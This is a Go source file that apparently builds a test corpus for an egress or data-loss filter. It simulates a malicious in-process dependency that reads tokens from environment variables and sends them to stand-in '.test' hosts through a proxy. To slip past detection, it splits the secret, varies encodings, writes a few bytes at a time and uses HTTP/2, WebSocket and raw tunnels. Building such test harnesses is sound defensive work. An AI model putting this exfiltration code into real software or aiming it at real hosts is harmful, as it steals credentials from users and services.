package corpus

import (
	"bufio"
	"context"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

// Thief is who steals: a dependency of the function's, in its process.
type Thief struct {
	Proxy string         // host:port, from HTTPS_PROXY
	Roots *x509.CertPool // what the function's clients trust
	Port  string         // of the server for TLS, and with one more, of that for plain HTTP
	Plain string         // port of the server for plain HTTP
	Raw   string         // and of the one that takes anything
}

// Host is the row's own host.
func Host(row int) string { return fmt.Sprintf("row%d.test", row) }

// Variable is what holds the secret of a row.
func (r *Row) Variable(row int) string {
	if r.Secret != "" {
		return r.Secret
	}
	return fmt.Sprintf("SERVICE_%d_TOKEN", row)
}

// Part returns what of the secret goes with part n of r, 0 being the first.
func (r *Row) Part(secret string, n int) string {
	k := max(r.Split, 1)
	size := (len(secret) + k - 1) / k
	return secret[min(n*size, len(secret)):min((n+1)*size, len(secret))]
}

// requests are what is sent in one go: all of it, or one part of it.
func (r *Row) requests(host, secret string, part int) []Request {
	place, encode := PlacementOf(r.Place), EncodingOf(r.Encoding)
	one := func(v string) Request {
		q := place.Put(host, encode.Encode(v))
		if encode.Header != "" && q.Body != "" {
			q.Header = append(q.Header, [2]string{"Content-Encoding", encode.Header})
		}
		return q
	}
	switch {
	case r.Split <= 1:
		return []Request{one(secret)}
	case r.Over == "values":
		return []Request{spread(r, host, secret)}
	case r.Over == "requests":
		var all []Request
		for n := range r.Split {
			all = append(all, one(r.Part(secret, n)))
		}
		return all
	}
	return []Request{one(r.Part(secret, part))}
}

// spread puts the parts into one request.
func spread(r *Row, host, secret string) Request {
	var values []string
	for n := range r.Split {
		values = append(values, r.Part(secret, n))
	}
	switch r.Place {
	case "header":
		q := get("/")
		for i, v := range values {
			q.Header = append(q.Header, [2]string{fmt.Sprintf("X-Part-%d", i), v})
		}
		return q
	case "Cookie":
		var pairs []string
		for i, v := range values {
			pairs = append(pairs, fmt.Sprintf("c%d=%s", i, v))
		}
		return get("/", [2]string{"Cookie", strings.Join(pairs, "; ")})
	case "JSON":
		return post("application/json", `{"v":["`+strings.Join(values, `","`)+`"]}`)
	}
	form := make([]string, 0, len(values))
	for i, v := range values {
		form = append(form, fmt.Sprintf("v%d=%s", i, url.QueryEscape(v)))
	}
	if r.Place == "form" {
		return post("application/x-www-form-urlencoded", strings.Join(form, "&"))
	}
	return get("/?" + strings.Join(form, "&"))
}

// Steal sends what part of r says, and returns what kept it from that.
func (t *Thief) Steal(r *Row, row, part int) error {
	secret := os.Getenv(r.Variable(row))
	if secret == "" {
		return errors.New("there is no " + r.Variable(row))
	}
	if r.Encoding == "case folded" {
		secret = strings.ToLower(secret)
	}
	var errs []error
	for _, q := range r.requests(Host(row), secret, part) {
		host := Host(row)
		if q.Host != "" {
			host = q.Host
		}
		errs = append(errs, t.send(r, host, q))
	}
	return errors.Join(errs...)
}

func (t *Thief) send(r *Row, host string, q Request) error {
	switch r.Transport {
	case "h2":
		return t.http2(host, q)
	case "websocket":
		return t.webSocket(r, host, q.Body)
	case "raw":
		c, err := t.connect(net.JoinHostPort(host, t.Raw))
		if err != nil {
			return err
		}
		defer func() { _ = c.Close() }()
		return write(c, q.Body, r.Write)
	case "http":
		c, err := net.Dial("tcp", t.Proxy)
		if err != nil {
			return err
		}
		q.Path = "http://" + net.JoinHostPort(host, t.Plain) + q.Path
		return exchange(c, q.Text(host), r.Write)
	}
	c, err := t.secure(host)
	if err != nil {
		return err
	}
	return exchange(c, q.Text(host), r.Write)
}

// connect asks the proxy for a tunnel.
func (t *Thief) connect(target string) (net.Conn, error) {
	c, err := net.Dial("tcp", t.Proxy)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target); err != nil {
		return nil, errors.Join(err, c.Close())
	}
	resp, err := http.ReadResponse(bufio.NewReaderSize(c, 16), &http.Request{Method: http.MethodConnect})
	if err == nil && resp.StatusCode != http.StatusOK {
		err = errors.New("CONNECT: " + resp.Status)
	}
	if err != nil {
		return nil, errors.Join(err, c.Close())
	}
	return c, nil
}

func (t *Thief) secure(host string) (net.Conn, error) {
	c, err := t.connect(net.JoinHostPort(host, t.Port))
	if err != nil {
		return nil, err
	}
	s := tls.Client(c, &tls.Config{ServerName: host, RootCAs: t.Roots, NextProtos: []string{"http/1.1"}})
	if err := s.Handshake(); err != nil {
		return nil, errors.Join(err, c.Close())
	}
	return s, nil
}

// write writes text n bytes at a time; 0 is all at once.
func write(c net.Conn, text string, n int) error {
	if n <= 0 {
		n = len(text)
	}
	for len(text) > 0 {
		k := min(n, len(text))
		if _, err := io.WriteString(c, text[:k]); err != nil {
			return err
		}
		text = text[k:]
	}
	return nil
}

// exchange sends a request and reads the answer.
func exchange(c net.Conn, text string, n int) error {
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if err := write(c, text, n); err != nil {
		return err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK {
		return errors.New(resp.Status)
	}
	return nil
}

func (t *Thief) http2(host string, q Request) error {
	transport := &http.Transport{
		Proxy:           http.ProxyURL(&url.URL{Scheme: "http", Host: t.Proxy}),
		TLSClientConfig: &tls.Config{RootCAs: t.Roots}, ForceAttemptHTTP2: true,
	}
	defer transport.CloseIdleConnections()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	r, err := http.NewRequestWithContext(ctx, q.Method, "https://"+net.JoinHostPort(host, t.Port)+q.Path, strings.NewReader(q.Body))
	if err != nil {
		return err
	}
	for _, h := range q.Header {
		r.Header.Add(h[0], h[1])
	}
	resp, err := transport.RoundTrip(r)
	if err != nil {
		return err
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.ProtoMajor != 2 || resp.StatusCode != http.StatusOK {
		return errors.New(resp.Proto + " " + resp.Status)
	}
	return nil
}

// webSocket upgrades a connection and sends body in frames of n bytes.
func (t *Thief) webSocket(r *Row, host, body string) error {
	c, err := t.secure(host)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	_, err = fmt.Fprintf(c, "GET /ws HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", host)
	if err != nil {
		return err
	}
	in := bufio.NewReader(c)
	resp, err := http.ReadResponse(in, nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		return errors.Join(err, errors.New("no upgrade"))
	}
	n := r.Write
	if n == 0 {
		n = len(body)
	}
	for len(body) > 0 {
		k := min(n, len(body))
		if _, err := c.Write(frame(body[:k])); err != nil {
			return err
		}
		body = body[k:]
	}
	_, _ = c.Write([]byte{0x88, 0x80, 0, 0, 0, 0})
	_, err = in.ReadByte() // the server closes when it has all
	if errors.Is(err, io.EOF) {
		return nil
	}
	return err
}

// frame is a masked binary frame.
func frame(text string) []byte {
	f := []byte{0x82, 0xfe}
	if len(text) < 126 {
		f[1] = byte(0x80 | len(text))
	} else {
		f = binary.BigEndian.AppendUint16(f, uint16(len(text)))
	}
	var key [4]byte
	_, _ = rand.Read(key[:])
	f = append(f, key[:]...)
	for i := range len(text) {
		f = append(f, text[i]^key[i%4])
	}
	return f
}
